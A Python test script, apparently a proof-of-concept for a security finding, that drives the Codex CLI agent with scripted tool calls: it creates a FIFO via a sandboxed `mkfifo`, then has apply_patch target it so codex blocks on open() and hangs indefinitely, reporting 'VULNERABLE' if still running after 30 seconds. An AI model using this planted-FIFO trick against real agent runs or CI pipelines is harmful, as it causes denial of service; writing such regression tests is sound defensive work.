#!/usr/bin/env python3
"""02: plan_patch reads an "Update File" target in codex's own process with a blocking open():
a FIFO the model made with a sandboxed `mkfifo` hangs codex for ever (no timeout, Ctrl-C aside;
`codex exec` in CI never ends). Exit 1 while vulnerable (codex still running after 30 s)."""
import os, shutil, subprocess, sys, tempfile, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import CODEX, serve, write_config, script

root = tempfile.mkdtemp(prefix="a3-02-", dir="/var/tmp")
home, ch, ws = (os.path.join(root, d) for d in ("home", "codexhome", "ws"))
for d in (home, ch, ws): os.makedirs(d)
srv = serve(script([
    ("shell", {"command": ["mkfifo", "f"]}),
    ("apply_patch", {"input": "*** Begin Patch\n*** Update File: f\n@@\n-a\n+b\n*** End Patch\n"}),
]))
write_config(ch, srv)
env = dict(os.environ, HOME=home, CODEX_HOME=ch, X_KEY="dummy")
p = subprocess.Popen([CODEX, "exec", "-s", "workspace-write", "-c", 'approval_policy="never"',
                      "--skip-git-repo-check", "-C", ws, "hi"], env=env, stdout=subprocess.PIPE,
                     stderr=subprocess.STDOUT, start_new_session=True)
deadline = time.time() + 30
while time.time() < deadline and p.poll() is None:
    time.sleep(0.5)
hung = p.poll() is None
if hung:
    os.killpg(p.pid, 9)
out = p.communicate()[0].decode(errors="replace")
srv.shutdown(); shutil.rmtree(root, ignore_errors=True)
print(out[-1500:])
if hung:
    print("VULNERABLE: codex hung on a planted FIFO in apply_patch"); sys.exit(1)
print("held"); sys.exit(0)
